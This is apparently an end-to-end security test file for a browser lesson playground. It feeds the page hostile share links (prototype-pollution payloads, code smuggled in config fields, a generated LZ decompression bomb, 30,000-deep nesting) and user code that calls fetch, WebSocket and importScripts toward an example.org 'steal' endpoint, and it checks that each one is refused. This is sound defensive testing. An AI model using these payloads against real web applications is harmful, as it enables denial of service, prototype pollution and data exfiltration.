// The attack round through the real page: hostile share links (prototype
// pollution, mistyped steps, a decompression bomb, deep nesting, smuggled
// code), user code that reaches for the network, damaged and full
// storage, two tabs on one lesson, and hostile embeds. Each case checks
// what a user sees: a clear message, nothing run, nothing polluted, the
// edit kept. A summary goes to test-results/attack-e2e.json.
import { readFileSync, writeFileSync } from 'node:fs';
import LZString from 'lz-string';
import { assert, openPage, RESULTS, test } from './harness.mjs';
import { clipboardContext, editorValue, pasteInto, runAndWait, waitForMonaco } from './ui-helpers.mjs';

const enc = (o) => LZString.compressToEncodedURIComponent(JSON.stringify(o));
const sandbox = (steps, services = [{ id: 'api', binary: 'nova-api', release: 'juno' }]) => ({ v: 1, mode: 'sandbox', services, steps });
const counter = (page, name) => page.evaluate((n) => Number(document.body.dataset[n] ?? 0), name);
const polluted = (page) => page.evaluate(() => [({}).polluted, ({}).code, typeof Object.keys].join());
const tally = { cases: 0, crashes: 0, hangs: 0, leaks: 0, dataLost: 0, refused: 0, clearRefusals: 0 };

/** The bomb of the report: every code repeats the last entry plus one character (about n²/2 characters out). */
function lzBomb(chars) {
  const A = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+-$';
  const bits = [];
  const put = (v, n) => {
    for (let i = 0; i < n; i++) bits.push((v >> i) & 1);
  };
  put(0, 2);
  put(97, 8);
  let [dictSize, numBits, enlargeIn] = [4, 3, 4];
  while (Math.ceil(bits.length / 6) < chars - 4) {
    put(dictSize++, numBits);
    if (--enlargeIn === 0) enlargeIn = 2 ** numBits++;
  }
  put(2, numBits);
  while (bits.length % 6) bits.push(0);
  let out = '';
  for (let i = 0; i < bits.length; i += 6) out += A[bits.slice(i, i + 6).reduce((v, b) => (v << 1) | b, 0)];
  return out;
}

const HOSTILE_LINKS = [
  // [label, payload, what the message must say]
  ['prototype pollution (the report\'s link)', 'N4IgbiBcCMA0IFsD2ATAplEBnAhgOxQCMkAPEeLNAJzAEsBjNLKAbVFpUxwAdbyRCtPDioBPTHiRgcAWh594VNABs0OSpgBWAV0kgAvgF0KAFzTdmkNiBRJM9JHgBmtAObal-SjQYZIIeS80ehNaR0wAfQjuKiQTJCj+JG5Q8P9uJGVlbTNOeGlsvxBRJgNDfSA', /reserved name/],
  ['[constructor] keys', enc(sandbox([{ do: 'configure', service: 'api', section: 'constructor', option: 'keys', value: 'x' }])), /reserved name/],
  ['configure value carrying code', enc(sandbox([{ do: 'configure', service: 'api', section: 'DEFAULT', option: 'code', value: { 'nova/compute/rpcapi': 'document.title="pwned"' } }])), /must be text or null/],
  ['note text 42', enc(sandbox([{ do: 'note', text: 42 }])), /text must be text/],
  ['note text {}', enc(sandbox([{ do: 'note', text: {} }])), /text must be text/],
  ['name {"toString": 1}', enc(sandbox([{ do: 'action', action: 'create', name: { toString: 1 } }])), /name must be text/],
  ['add_service with code', enc(sandbox([{ do: 'add_service', service: { id: 'c9', binary: 'nova-compute', release: 'kilo', code: { m: 'document.title="pwned"' } } }])), /code is refused/],
  ['deep nesting', LZString.compressToEncodedURIComponent(`{"v":1,"mode":"sandbox","services":[{"id":"api","binary":"nova-api","release":"juno"}],"steps":[{"do":"note","text":${'['.repeat(30000)}1${']'.repeat(30000)}}]}`), /nested more than/],
  ['a file named __proto__', LZString.compressToEncodedURIComponent('{"v":1,"mode":"lesson","lesson":"anatomy-of-a-message","files":{"__proto__":"x"}}'), /bad file path/],
  ['149 k-character decompression bomb', lzBomb(149_000), /unpacks to more than/],
];

test('attack: hostile links say what they refuse, run nothing, pollute nothing, and keep the edit', async ({ browser, url }) => {
  const { page, problems, context } = await openPage(browser, `${url}#/lesson/anatomy-of-a-message`, { context: clipboardContext(url) });
  await waitForMonaco(page);
  await page.evaluate(() => localStorage.clear());
  const mine = `${await editorValue(page)}\n// my work in progress\n`;
  await pasteInto(page, mine);
  await page.waitForFunction(() => Object.keys(localStorage).some((k) => k.startsWith('nul:edit:')));
  for (const [label, payload, why] of HOSTILE_LINKS) {
    tally.cases += 1;
    if (await page.locator('.banner [aria-label="Dismiss"]').count()) await page.click('.banner [aria-label="Dismiss"]');
    // How long the page's main thread was blocked (the old decoder froze it 2.6-2.8 s on the bomb).
    await page.evaluate(() => {
      window.__longest = 0;
      window.__obs?.disconnect();
      window.__obs = new PerformanceObserver((l) => l.getEntries().forEach((e) => (window.__longest = Math.max(window.__longest, e.duration))));
      window.__obs.observe({ type: 'longtask' });
    });
    await page.evaluate((p) => (location.hash = `#share=${p}`), payload);
    await page.waitForSelector('.banner.error', { timeout: 10000 });
    const ms = await page.evaluate(() => new Promise((r) => requestAnimationFrame(() => setTimeout(() => r(window.__longest), 50))));
    if (ms > 1000) tally.hangs += 1;
    const text = await page.textContent('.banner.error');
    tally.refused += 1;
    if (/^The share link/.test(text) && why.test(text) && !/TypeError|RangeError|Maximum call stack/.test(text)) tally.clearRefusals += 1;
    assert(why.test(text) && /nothing from it was opened/i.test(text), `${label}: a clear message: ${text}`);
    const p = await polluted(page);
    if (p !== ',,function') tally.leaks += 1;
    assert(p === ',,function', `${label}: Object.prototype untouched: ${p}`);
    assert((await counter(page, 'runs')) === 0 && (await counter(page, 'replays')) === 0, `${label}: nothing ran`);
    assert((await page.title()) !== 'pwned', `${label}: no code from the link ran`);
    await page.waitForSelector('.lesson-title');
    await waitForMonaco(page);
    // The first lesson is where the learner was: their edit is still in the editor and in storage.
    const kept = (await editorValue(page)) === mine && (await page.evaluate(() => Object.entries(localStorage).find(([k]) => k.startsWith('nul:edit:'))?.[1])) === JSON.stringify(mine);
    if (!kept) tally.dataLost += 1;
    assert(kept, `${label}: the edit is kept`);
    if (label.includes('bomb')) assert(ms < 1000, `the bomb is refused without freezing the page: longest task ${ms} ms`);
    console.log(`    ${label}: longest main-thread task ${Math.round(ms)} ms`);
  }
  await page.screenshot({ path: `${RESULTS}/attack-links.png` });
  assert(problems.length === 0, problems.join('\n'));
  await context.close();
}, { timeout: 120000 });

test('attack: a link that carries code opens it in the editor and runs nothing (app and embed)', async ({ browser, url }) => {
  const code = '// from a stranger\nexport {};\n(globalThis as any).document?.title;\n';
  const link = enc({ v: 1, mode: 'lesson', lesson: 'anatomy-of-a-message', files: { 'nova/compute/rpcapi.ts': code, 'not/in/this/lesson.ts': 'x' } });
  const { page, problems, context } = await openPage(browser, `${url}#share=${link}`);
  await page.waitForFunction(() => Number(document.body.dataset.sharesOpened ?? 0) >= 1, null, { timeout: 30000 });
  await waitForMonaco(page);
  assert((await editorValue(page)) === code, 'the shared code is in the editor');
  const text = await page.textContent('.banner');
  assert(/Nothing has run/.test(text) && /1 edited file/.test(text) && /not\/in\/this\/lesson\.ts/.test(text), `says nothing ran, counts only the lesson's files, names the ignored one: ${text}`);
  assert((await counter(page, 'runs')) === 0, 'nothing ran');
  await runAndWait(page, 60000);
  assert((await counter(page, 'runs')) === 1, 'it runs when the learner presses Run');
  assert(problems.length === 0, problems.join('\n'));
  await context.close();

  // An embed of the same link: the example waits for its Run button too.
  const e = await openPage(browser, `${url}index.html?embed=1&view=trace#share=${link}`);
  await e.page.waitForFunction(() => Number(document.body.dataset.sharesOpened ?? 0) >= 1, null, { timeout: 30000 });
  await e.page.waitForSelector('.banner button:has-text("Run the shared code")');
  assert((await counter(e.page, 'runs')) === 0, 'the embed ran nothing');
  await e.page.click('.banner button:has-text("Run the shared code")');
  await e.page.waitForFunction(() => Number(document.body.dataset.runs ?? 0) >= 1, null, { timeout: 60000 });
  assert(e.problems.length === 0, e.problems.join('\n'));
  await e.context.close();
}, { timeout: 150000 });

test('attack: user code cannot reach the network or storage: fetch, XHR, WebSocket, importScripts, indexedDB fail with a clear message', async ({ browser, url }) => {
  const { page, context } = await openPage(browser, `${url}#/lesson/anatomy-of-a-message`, { context: clipboardContext(url) });
  const outside = [];
  page.on('request', (r) => !/^(http:\/\/127\.0\.0\.1|data:|blob:)/.test(r.url()) && outside.push(r.url()));
  await waitForMonaco(page);
  await page.evaluate(() => localStorage.clear());
  const attack = [
    'export {};',
    'const g = globalThis as any;',
    'const tries: [string, () => unknown][] = [',
    "  ['fetch', () => g.fetch('https://example.org/steal')],",
    "  ['XMLHttpRequest', () => new g.XMLHttpRequest().open('GET', 'https://example.org/')],",
    "  ['WebSocket', () => new g.WebSocket('wss://example.org/')],",
    "  ['importScripts', () => g.importScripts('https://example.org/x.js')],",
    "  ['indexedDB', () => g.indexedDB.open('steal')],",
    '];',
    'const out: string[] = [];',
    'for (const [name, f] of tries) {',
    '  try { f(); out.push(`${name} WAS REACHABLE`); } catch (e) { out.push((e as Error).message); }',
    '}',
    "throw new Error(out.join(' | '));",
    '',
  ].join('\n');
  await pasteInto(page, attack);
  await runAndWait(page, 60000);
  // The service that loads the code fails to boot with the error it threw: all five messages.
  const trace = await page.evaluate(() => window.__novaLab.trace());
  const text = trace.map((e) => e.text).find((t) => /is blocked/.test(t)) ?? trace.map((e) => e.text).join('\n');
  for (const api of ['fetch', 'XMLHttpRequest', 'WebSocket', 'importScripts', 'indexedDB']) {
    tally.cases += 1;
    tally.refused += 1;
    const ok = new RegExp(`${api} is blocked: code in the playground runs inside the simulation and cannot reach the network or the browser's storage`).test(text);
    if (ok) tally.clearRefusals += 1;
    else tally.leaks += 1;
    assert(ok, `${api} is blocked with a clear message: ${text}`);
  }
  assert(!/WAS REACHABLE/.test(text), text);
  assert(outside.length === 0, `requests left the site: ${outside.join(', ')}`);
  assert((await editorValue(page)) === attack, 'the edit is kept');
  await page.screenshot({ path: `${RESULTS}/attack-network.png` });
  await context.close();
}, { timeout: 120000 });

test('attack: damaged storage is set aside, a full storage says so at once, two tabs do not overwrite each other silently', async ({ browser, url }) => {
  const lessonUrl = `${url}#/lesson/anatomy-of-a-message`;
  // Damaged values: a `solved` that is not a list, a saved edit that is not text; written once,
  // before the app's first load.
  const { page, problems, context } = await openPage(browser, 'about:blank', { context: clipboardContext(url) });
  const editKey = 'nul:edit:01-anatomy-of-a-message:nova/compute/rpcapi.ts';
  const start = readFileSync('lessons/01-anatomy-of-a-message/start/nova/compute/rpcapi.ts', 'utf8');
  await context.addInitScript((k) => {
    if (location.protocol !== 'http:' || localStorage.getItem('attack:seeded')) return;
    localStorage.setItem('attack:seeded', '1');
    localStorage.setItem('nul:solved', '5');
    localStorage.setItem(k, '{"not":"text"}');
  }, editKey);
  await page.goto(lessonUrl);
  await page.waitForSelector('.lesson-title');
  await waitForMonaco(page);
  tally.cases += 2;
  assert((await editorValue(page)) === start, 'the editor loads the start file');
  await page.waitForSelector('[data-storage="set-aside"]');
  const aside = await page.evaluate(() => [localStorage.getItem('nul:damaged:solved'), Object.keys(localStorage).filter((k) => k.startsWith('nul:damaged:edit:')).length]);
  assert(aside[0] === '5' && aside[1] === 1, `both damaged values are kept aside: ${aside}`);
  tally.refused += 2;
  tally.clearRefusals += 2;

  // Two tabs on one lesson: B is told when A saves, and can load A's version.
  const b = await context.newPage();
  await b.goto(lessonUrl);
  await waitForMonaco(b);
  const theirs = `${start}\n// written in tab A\n`;
  await page.bringToFront();
  await pasteInto(page, theirs);
  await b.waitForSelector('[data-storage="other-tab"]', { timeout: 10000 });
  assert(/Another tab changed/.test(await b.textContent('[data-storage="other-tab"]')), 'tab B is told');
  await b.click('[data-storage="other-tab"] button.load-theirs');
  assert((await editorValue(b)) === theirs, 'tab B loaded the other tab\'s version');
  tally.cases += 1;

  // A full storage: the next edit is not saved; the tab says so at once and offers to keep it.
  await page.evaluate(() => {
    // Fill it to the last character (a replaced value frees its room, so the edit below is longer than any before).
    let n = 0;
    for (const size of [100000, 10000, 1000, 100, 10, 1]) {
      for (;;) {
        try {
          localStorage.setItem(`filler:${n++}`, 'x'.repeat(size));
        } catch {
          break;
        }
      }
    }
  });
  const lost = `${start}\n// typed into a full storage\n// ${'x'.repeat(3000)}\n`;
  await pasteInto(page, lost);
  await page.waitForSelector('[data-storage="save-failed"]', { timeout: 10000 });
  const msg = await page.textContent('[data-storage="save-failed"]');
  assert(/could not be saved in this browser \(its storage is full\)/.test(msg) && /copy or download it/.test(msg), `says so: ${msg}`);
  await page.click('[data-storage="save-failed"] button:has-text("Copy")');
  await page.waitForFunction(() => /Copied/.test(document.querySelector('[data-storage="save-failed"]')?.textContent ?? ''));
  const clip = await page.evaluate(() => navigator.clipboard.readText());
  assert(clip === lost, 'Copy hands over the unsaved edit');
  assert((await editorValue(page)) === lost, 'the edit is still in the editor');
  tally.cases += 1;
  tally.refused += 1;
  tally.clearRefusals += 1;
  await page.screenshot({ path: `${RESULTS}/attack-storage.png` });
  await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('filler:')).forEach((k) => localStorage.removeItem(k)));
  assert(problems.length === 0, problems.join('\n'));
  await context.close();
}, { timeout: 120000 });

test('attack: a shared sandbox whose service cannot start says so instead of "replayed"', async ({ browser, url }) => {
  const link = enc(sandbox([{ do: 'configure', service: 'api', section: 'DEFAULT', option: 'rpc_response_timeout', value: 'soon' }]));
  const { page, problems, context } = await openPage(browser, `${url}#share=${link}`);
  await page.waitForFunction(() => Number(document.body.dataset.replays ?? 0) >= 1, null, { timeout: 60000 });
  const text = await page.textContent('.banner');
  tally.cases += 1;
  assert(/these services did not start: api/.test(text) && !/replayed\./.test(text), `names the service that did not start: ${text}`);
  assert((await page.getAttribute('.banner', 'class')).includes('error'), 'as an error');
  assert(problems.length === 0, problems.join('\n'));
  await context.close();
}, { timeout: 90000 });

test('attack: embeds: an unknown lesson runs nothing, the initial height is clamped', async ({ browser, url }) => {
  const { page, problems, context } = await openPage(browser, `${url}index.html?embed=1&lesson=no-such-lesson&view=lesson,trace`);
  await page.waitForSelector('.banner.error');
  assert(/There is no lesson "no-such-lesson"/.test(await page.textContent('.banner.error')), 'says the lesson does not exist');
  await page.waitForSelector('.lesson-title');
  assert((await counter(page, 'runs')) === 0, 'lesson 1 did not run in its place');
  await page.waitForSelector('.monaco-host[data-ready="true"]', { state: 'attached', timeout: 30000 });
  assert((await counter(page, 'runs')) === 0, 'still nothing ran once the editor was ready');
  assert(problems.length === 0, problems.join('\n'));
  await context.close();
  tally.cases += 1;
  tally.refused += 1;
  tally.clearRefusals += 1;

  const demo = await openPage(browser, `${url}embed-demo.html`);
  const page2 = demo.page;
  const heights = await page2.evaluate(() =>
    ['100000', '3', '-50', 'abc'].map((h) => {
      const el = document.createElement('nova-upgrade-lab');
      el.setAttribute('scenario', 'shelve-offload-pinned');
      el.setAttribute('height', h);
      document.body.appendChild(el);
      const height = el.querySelector('iframe').style.height;
      el.remove();
      return height;
    }),
  );
  assert(heights.join() === '4000px,120px,420px,420px', `initial heights clamped: ${heights}`);
  tally.cases += 4;
  assert(demo.problems.length === 0, demo.problems.join('\n'));
  await demo.context.close();
  writeFileSync(`${RESULTS}/attack-e2e.json`, JSON.stringify(tally, null, 2));
  console.log(`    attack e2e: cases ${tally.cases}, crashes ${tally.crashes}, hangs ${tally.hangs}, leaks ${tally.leaks}, data lost ${tally.dataLost}, clear refusals ${tally.clearRefusals}/${tally.refused}`);
}, { timeout: 90000 });
